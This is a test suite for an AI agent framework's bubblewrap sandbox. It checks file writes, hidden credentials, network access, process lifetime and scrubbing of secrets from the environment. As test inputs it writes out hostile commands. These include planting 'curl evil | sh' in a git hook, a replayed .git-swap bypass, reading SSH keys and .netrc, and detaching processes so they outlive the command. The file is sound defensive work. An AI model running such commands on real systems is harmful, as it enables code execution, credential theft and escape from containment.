"""The OS sandbox, checked from inside real bubblewrap sandboxes through the public `bash` tool,
`Agent` and CLI: what a command can write, reach, see and outlive, and the fail-closed path where
no sandbox can be made."""

from __future__ import annotations

import asyncio
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sandbox_helpers import cli, tool_results

from loopwright import Agent, ToolContext, ToolError
from loopwright.builtin import bash, default_tools, make_grep
from loopwright.builtin.workspace import ALLOWED_ROOTS_SERVICE
from loopwright.endpoints.retry import RetryPolicy
from loopwright.safety.sandbox import SANDBOX_SERVICE, SandboxPolicy
from loopwright.testing import FakeModelServer, Reply, call
from shared_helpers import TAG, live_processes, require_component, wait_until

pytestmark = pytest.mark.usefixtures("needs_bwrap")

FAST = RetryPolicy(base_delay=0.01, jitter=0)


def context(workdir: Path, **policy: Any) -> ToolContext:
    return ToolContext(workdir=workdir, services={SANDBOX_SERVICE: SandboxPolicy(**policy)})


async def run(ctx: ToolContext, command: str, **arguments: Any) -> str:
    result = await bash.invoke(bash.validate({"command": command, **arguments}), ctx)
    assert isinstance(result, str)
    return result


@pytest.fixture
def outside() -> Iterator[Path]:
    """A host directory outside the workspace and outside /tmp (which the sandbox replaces)."""
    path = Path(tempfile.mkdtemp(prefix="loopwright-outside-", dir="/var/tmp"))
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


# --- the filesystem ------------------------------------------------------------------------------


async def test_writes_inside_the_workspace_reach_the_host(tmp_path: Path) -> None:
    text = await run(context(tmp_path), "echo made > inside.txt && mkdir -p sub && echo ok")
    assert text == "ok\n[exit code 0]"
    assert (tmp_path / "inside.txt").read_text() == "made\n"


async def test_writes_outside_the_workspace_fail(tmp_path: Path, outside: Path) -> None:
    text = await run(context(tmp_path), f"echo pwned > {outside}/escaped.txt")
    assert "Read-only file system" in text and text.endswith("[exit code 1]")
    assert not (outside / "escaped.txt").exists()
    text = await run(context(tmp_path), f"rm -rf {outside}; ls -d {outside}")
    assert outside.is_dir() and str(outside) in text


async def test_tmp_is_private_and_empty(tmp_path: Path) -> None:
    marker = f"loopwright-private-{os.getpid()}"
    text = await run(context(tmp_path), f"echo x > /tmp/{marker} && ls /tmp")
    assert marker in text
    assert not Path("/tmp", marker).exists()
    # a second command gets a fresh /tmp
    assert marker not in await run(context(tmp_path), "ls -a /tmp")


async def test_read_only_mode_refuses_workspace_writes(tmp_path: Path) -> None:
    text = await run(context(tmp_path, mode="read-only"), "echo no > file.txt")
    assert "Read-only file system" in text
    assert not (tmp_path / "file.txt").exists()
    assert "[exit code 0]" in await run(context(tmp_path, mode="read-only"), "cat /etc/hostname")


async def test_allowed_roots_are_writable_too(tmp_path: Path, outside: Path) -> None:
    ctx = context(tmp_path)
    ctx.services[ALLOWED_ROOTS_SERVICE] = [str(outside)]
    await run(ctx, f"echo shared > {outside}/ok.txt")
    assert (outside / "ok.txt").read_text() == "shared\n"


async def test_the_whole_git_directory_is_read_only(tmp_path: Path) -> None:
    # issue 29: as in Codex, all of .git (not only hooks and config), so nothing in it can be
    # planted for the user's next git command; commits are the user's, outside the sandbox
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / ".git" / "config").write_text("[core]\n")
    (tmp_path / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    text = await run(context(tmp_path), "echo 'curl evil | sh' > .git/hooks/pre-commit; "
                     "echo '[core] fsmonitor = evil' >> .git/config; echo ref > .git/HEAD; "
                     "mkdir .git/info")
    assert text.count("Read-only file system") == 4
    assert not (tmp_path / ".git" / "hooks" / "pre-commit").exists()
    assert (tmp_path / ".git" / "config").read_text() == "[core]\n"
    assert (tmp_path / ".git" / "HEAD").read_text() == "ref: refs/heads/main\n"
    assert not (tmp_path / ".git" / "info").exists()


async def test_git_directory_cannot_be_swapped_for_a_planted_one(tmp_path: Path) -> None:
    # Replays a bypass: renaming .git (the read-only mounts went along) and writing a fresh one
    # with a hook would run that hook outside the sandbox at the user's next git command.
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / ".git" / "config").write_text("[core]\n")
    text = await run(context(tmp_path), "mv .git .git-old; rm -rf .git; "
                     "mkdir -p .git/modules/x; echo evil > .git/modules/x/config; echo done")
    assert text.count("Device or resource busy") >= 1
    assert not (tmp_path / ".git-old").exists()
    assert (tmp_path / ".git" / "config").read_text() == "[core]\n"
    assert (tmp_path / ".git" / "hooks").is_dir()
    assert not (tmp_path / ".git" / "modules").exists()


async def test_submodule_configs_and_a_git_pointer_file_stay_read_only(tmp_path: Path) -> None:
    (tmp_path / ".git" / "modules" / "lib").mkdir(parents=True)
    (tmp_path / ".git" / "modules" / "lib" / "config").write_text("[core]\n")
    text = await run(context(tmp_path), "echo evil >> .git/modules/lib/config")
    assert "Read-only file system" in text
    assert (tmp_path / ".git" / "modules" / "lib" / "config").read_text() == "[core]\n"
    worktree = tmp_path / "worktree"  # a git worktree: .git is a file naming the git directory
    worktree.mkdir()
    (worktree / ".git").write_text("gitdir: /elsewhere\n")
    text = await run(context(worktree), "echo 'gitdir: planted' > .git; mv .git old")
    assert "Read-only file system" in text and "busy" in text
    assert (worktree / ".git").read_text() == "gitdir: /elsewhere\n"


async def test_credential_stores_in_home_are_hidden(
        outside: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = outside / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY")
    (home / ".netrc").write_text("machine x password hunter2")
    (home / "notes.txt").write_text("plain notes")
    monkeypatch.setenv("HOME", str(home))
    text = await run(context(tmp_path), f"cat {home}/.ssh/id_ed25519 {home}/.netrc; "
                     f"ls -a {home}/.ssh; cat {home}/notes.txt")
    assert "PRIVATE KEY" not in text and "hunter2" not in text
    assert "plain notes" in text


# --- network, processes, environment -------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[int]:
    """A TCP port on 127.0.0.1 of the host that accepts connections (the kernel completes the
    handshake from the backlog)."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


CONNECT = "exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"


async def test_network_is_off_by_default(tmp_path: Path, listener: int) -> None:
    text = await run(context(tmp_path), CONNECT.format(port=listener))
    assert "connected" not in text and "Connection refused" in text


async def test_network_on_when_allowed(tmp_path: Path, listener: int) -> None:
    text = await run(context(tmp_path, network=True), CONNECT.format(port=listener))
    assert text.startswith("connected")


async def test_processes_outside_are_invisible(tmp_path: Path) -> None:
    host = subprocess.Popen(["sleep", f"{TAG}3131"])
    try:
        await wait_until(lambda: bool(live_processes(f"sleep {TAG}3131")), "the host sleep runs")
        text = await run(context(tmp_path),
                         "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done")
        assert "/bin/bash" in text and f"{TAG}3131" not in text
        assert str(host.pid) not in (await run(context(tmp_path), "ls /proc")).split()
    finally:
        host.kill()
        host.wait()


async def test_background_processes_end_with_the_command(tmp_path: Path) -> None:
    text = await run(context(tmp_path), f"sleep {TAG}3232 & echo started")
    assert text == "started\n[exit code 0]"
    await wait_until(lambda: not live_processes(f"sleep {TAG}3232"), "the background sleep is gone")


async def test_timeout_kills_everything_in_the_sandbox(tmp_path: Path) -> None:
    with pytest.raises(ToolError, match="timed out"):
        await run(context(tmp_path), f"sleep {TAG}3333 & sleep {TAG}3334", timeout=0.5)
    await wait_until(lambda: not live_processes(f"sleep {TAG}333"), "every sleep is killed")


def sleeps(marker: str) -> list[int]:
    """Live `sleep MARKER` processes themselves (not the shells or sandboxes naming them)."""
    found = []
    for pid in live_processes(marker):
        try:
            if Path(f"/proc/{pid}/cmdline").read_bytes().startswith(b"sleep\0"):
                found.append(pid)
        except OSError:
            pass
    return found


async def test_the_sandbox_dies_with_the_process_that_started_it(tmp_path: Path) -> None:
    script = ("import asyncio; from pathlib import Path; from loopwright import ToolContext; "
              "from loopwright.builtin import bash; "
              "ctx = ToolContext(workdir=Path.cwd()); "
              f"command = 'sleep {TAG}34' + '34'; "
              "asyncio.run(bash.invoke(bash.validate({'command': command}), ctx))")
    parent = subprocess.Popen([sys.executable, "-c", script], cwd=tmp_path)
    try:
        await wait_until(lambda: bool(sleeps(f"{TAG}3434")), "the sleep runs in its sandbox")
    finally:
        parent.send_signal(signal.SIGKILL)  # no cleanup code runs: only --die-with-parent
        parent.wait()
    await wait_until(lambda: not live_processes(f"sleep {TAG}3434"), "the sandbox died too")


async def test_cancelling_while_the_sandbox_starts_leaves_nothing_behind(tmp_path: Path) -> None:
    # Replays a leak: a cancel that killed bubblewrap while it was still setting up left the
    # sandbox's own init (in a session of its own) running the command with no parent.
    for attempt in range(8):
        marker = f"sleep {TAG}17{attempt}"
        ctx = context(tmp_path)
        task = asyncio.ensure_future(run(ctx, marker))
        await wait_until(lambda m=marker: bool(live_processes(m)), "bubblewrap starts")
        await asyncio.sleep(attempt * 0.002)  # at a different point of its set-up each time
        ctx.cancelled.set()
        with pytest.raises(ToolError, match="cancelled"):
            await task
    await wait_until(lambda: not live_processes(f"sleep {TAG}17"), "every sandbox is gone")


async def test_a_command_that_leaves_the_process_group_still_dies(tmp_path: Path) -> None:
    ctx = context(tmp_path)
    task = asyncio.ensure_future(run(ctx, f"setsid sleep {TAG}1801 & nohup sleep {TAG}1802"))
    await wait_until(lambda: len(sleeps(f"{TAG}180")) == 2, "both sleeps run")
    ctx.cancelled.set()
    with pytest.raises(ToolError, match="cancelled"):
        await task
    await wait_until(lambda: not live_processes(f"sleep {TAG}180"), "both sleeps are killed")


async def test_secrets_are_scrubbed_from_the_environment(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-leak-1")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-leak-2")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-leak-3")
    monkeypatch.setenv("DATABASE_URL", "postgres://app:leak-4@db/app")
    monkeypatch.setenv("PGPASSWORD", "leak-5")
    monkeypatch.setenv("HARMLESS_SETTING", "visible")
    text = await run(context(tmp_path), "env")
    assert "leak" not in text
    assert "HARMLESS_SETTING=visible" in text and "PATH=" in text
    allowed = await run(context(tmp_path, env_passthrough=("GITHUB_TOKEN",)), "env")
    assert "GITHUB_TOKEN=ghp-leak-2" in allowed and "sk-leak-1" not in allowed


async def test_grep_runs_ripgrep_in_a_read_only_offline_sandbox(tmp_path: Path) -> None:
    require_component(shutil.which("rg") is not None, "ripgrep: pip install ripgrep")
    log = tmp_path / "bwrap.log"
    wrapper = tmp_path / "logging-bwrap"  # records each command line, then runs the real one
    wrapper.write_text(f'#!/bin/sh\nprintf "%s\\n" "$*" >> {log}\n'
                       f'exec {shutil.which("bwrap")} "$@"\n')
    wrapper.chmod(0o755)
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "a.txt").write_text("needle\n")
    ctx = context(workspace, bwrap=str(wrapper), network=True)
    grep = make_grep("ripgrep")
    text = await grep.invoke(grep.validate({"pattern": "needle"}), ctx)
    assert text == "a.txt:1:needle"
    logged = log.read_text()  # the probe (network on: no --unshare-net), then ripgrep's line
    assert "/rg --no-heading " in logged  # by its path, found outside the workspace
    assert f"--ro-bind-try {workspace} {workspace}" in logged
    assert "--unshare-net" in logged and "--bind-try" not in logged


# --- through the Agent and the CLI ---------------------------------------------------------------


async def test_agent_runs_commands_sandboxed_and_tells_the_model(
        tmp_path: Path, outside: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-leak")
    monkeypatch.setenv("MY_SERVICE_TOKEN", "kept-on-purpose")
    command = f"echo hi > {outside}/x; echo ok > in.txt; env"
    script = [Reply(tool_calls=[call("bash", {"command": command})]), Reply(text="done")]
    with FakeModelServer(replies=script) as server:
        agent = Agent("m", base_url=server.base_url, api_key="k", retry=FAST,
                      tools=default_tools(), workdir=str(tmp_path),
                      env_passthrough=["MY_SERVICE_*"])
        result = await agent.run("go")
        system = str(server.model_requests[0].body["messages"][0]["content"])
    [output] = tool_results(result.messages)
    assert "Read-only file system" in output and not (outside / "x").exists()
    assert (tmp_path / "in.txt").read_text() == "ok\n"
    assert "sk-ant-leak" not in output and "MY_SERVICE_TOKEN=kept-on-purpose" in output
    assert "run in a sandbox (mode workspace-write)" in system and "Network: off" in system


def test_agent_rejects_an_unknown_sandbox_mode() -> None:
    from loopwright.errors import ConfigError

    with pytest.raises(ConfigError, match="not a sandbox mode; use one of read-only"):
        Agent("m", base_url="http://127.0.0.1:9", api_key="k", sandbox_mode="yolo")


def test_cli_full_access_warns_loudly_once(tmp_path: Path) -> None:
    script = [Reply(tool_calls=[call("bash", {"command": "echo ran > out.txt"})]),
              Reply(text="done")]
    with FakeModelServer(replies=script) as server:
        done = cli(server, tmp_path, "--sandbox", "full-access")
    assert done.returncode == 0, done.stderr
    assert done.stderr.count("WARNING: the sandbox is OFF") == 1
    assert (tmp_path / "out.txt").read_text() == "ran\n"


def test_cli_sandbox_flag_reaches_the_command(tmp_path: Path) -> None:
    script = [Reply(tool_calls=[call("bash", {"command": "echo ran > out.txt"})]),
              Reply(text="done")]
    with FakeModelServer(replies=script) as server:
        done = cli(server, tmp_path, "--sandbox", "read-only")
        sent = server.model_requests[1].body["messages"]
    assert done.returncode == 0, done.stderr
    assert "sandbox" not in done.stderr  # a working sandbox needs no notice
    assert not (tmp_path / "out.txt").exists()
    assert "Read-only file system" in str(sent[-1]["content"])


def test_cli_rejects_an_unknown_mode(tmp_path: Path) -> None:
    with FakeModelServer(replies=[]) as server:
        done = cli(server, tmp_path, "--sandbox", "none")
    assert done.returncode == 2 and "--sandbox" in done.stderr


async def test_concurrent_commands_each_get_their_own_sandbox(tmp_path: Path) -> None:
    ctx = context(tmp_path)
    texts = await asyncio.gather(*(run(ctx, f"echo {i} > /tmp/n; cat /tmp/n") for i in range(4)))
    assert [t.split("\n")[0] for t in texts] == ["0", "1", "2", "3"]
